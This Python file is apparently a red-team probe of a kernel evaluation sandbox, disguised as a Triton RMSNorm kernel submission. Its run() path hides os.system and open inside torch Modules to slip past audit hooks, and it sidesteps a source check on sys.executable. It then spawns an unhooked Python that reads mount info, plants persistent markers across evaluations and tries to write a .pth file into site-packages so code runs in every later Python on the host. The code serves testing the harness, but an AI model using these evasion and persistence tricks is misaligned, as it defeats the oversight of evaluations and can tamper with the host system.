"""Red team 6 escape probe: leave something behind for the next evaluation or the host.

From a fresh Python started by the worker (no audit hooks, same jail): first look for
markers an earlier evaluation of this probe left (every writable place a jail shows:
/tmp, HOME, TMPDIR, /dev/shm, /var/tmp, /run, the Triton cache), then leave new ones
there, and try to write into the read-only bound places whose contents outlive the
evaluation (the project's packages, the Python's site-packages: a .pth there runs in
every later Python on the host). A marker found on entry, or a write that lands in a
bound place, is ESCAPED (state carried across evaluations: a cache of answers, a planted
import). The test runs it twice and checks the host's paths too; run() raises the
report, so the verdict is never ok."""

import os
import shlex

import torch
import triton
import triton.language as tl

NUM_WARPS = 4


@triton.jit
def rmsnorm_kernel(out_ptr, x_ptr, w_ptr, n_cols, stride_x, stride_w, stride_o, eps,
                   USE_W: tl.constexpr, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * stride_x + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.rsqrt(tl.sum(x * x, 0) / n_cols + eps)
    y = x * rstd
    if USE_W:
        y = y * tl.load(w_ptr + cols * stride_w, mask=mask, other=0.0).to(tl.float32)
    tl.store(out_ptr + row * stride_o + cols, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(out, x, weight, eps, use_w=True):
    n_rows, n_cols = x.shape
    rmsnorm_kernel[(n_rows,)](out, x, weight, n_cols, x.stride(0), weight.stride(0),
                              out.stride(0), eps, USE_W=use_w,
                              BLOCK=triton.next_power_of_2(n_cols), num_warps=NUM_WARPS)
    return out


# actions are called by torch's Module._call_impl, so the runtime readers count them as
# torch's: this reaches the jail itself rather than stopping at the layers in front of it
_sh = torch.nn.Module()
_sh.forward = os.system
_rd = torch.nn.Module()
_rd.forward = open

OUT = "/tmp/.rt6_probe_report.txt"


def _probe():
    # a Python from the jail's PATH (the source check refuses naming sys.executable)
    _sh("(for c in python3.11 python3 /usr/bin/python3; do command -v $c >/dev/null 2>&1"
        " && exec $c -c " + shlex.quote(CHILD) + "; done; echo no python on $PATH) > "
        + OUT + " 2>&1")
    return _rd(OUT).read()


def run(x, weight, eps=1e-6):
    lines = _probe().splitlines()
    # what got out first: the message the verdict keeps is trimmed
    report = "\n".join([ln for ln in lines if ln.startswith("ESCAPED")]
                       + [ln for ln in lines if not ln.startswith("ESCAPED")])
    raise RuntimeError("PROBE REPORT\n" + report[-6000:])


CHILD = r"""
import os, site, sys, glob
places = ["/tmp", os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), "/dev/shm",
          "/var/tmp", "/run", os.environ.get("TRITON_CACHE_DIR", ""),
          os.path.expanduser("~/.triton/cache")]
places = [p for p in dict.fromkeys(places) if p]
for p in places:
    f = os.path.join(p, ".rt6_marker")
    if os.path.exists(f):
        print("ESCAPED persisted: a marker from an earlier evaluation in", f, open(f).read())
nonce = os.urandom(6).hex()
for p in places:
    try:
        with open(os.path.join(p, ".rt6_marker"), "w") as fh:
            fh.write(nonce)
        print("wrote marker in", p)
    except OSError as e:
        print("no marker in", p, e.strerror)
bound = list(site.getsitepackages()) + [sys.prefix]
try:
    import kernelkb.kernels, kernelkb.optimizer
    bound += [os.path.dirname(kernelkb.kernels.__file__), os.path.dirname(kernelkb.optimizer.__file__)]
except Exception as e:
    print("no kernelkb:", e)
for p in bound:
    target = os.path.join(p, "rt6_probe.pth")
    try:
        with open(target, "w") as fh:
            fh.write("import os  # rt6\n")
        print("ESCAPED host: wrote", target)
    except OSError as e:
        print("held: write", target, e.strerror)
print("mount roots:", sorted({l.split()[3] for l in open("/proc/self/mountinfo")})[:40])
"""
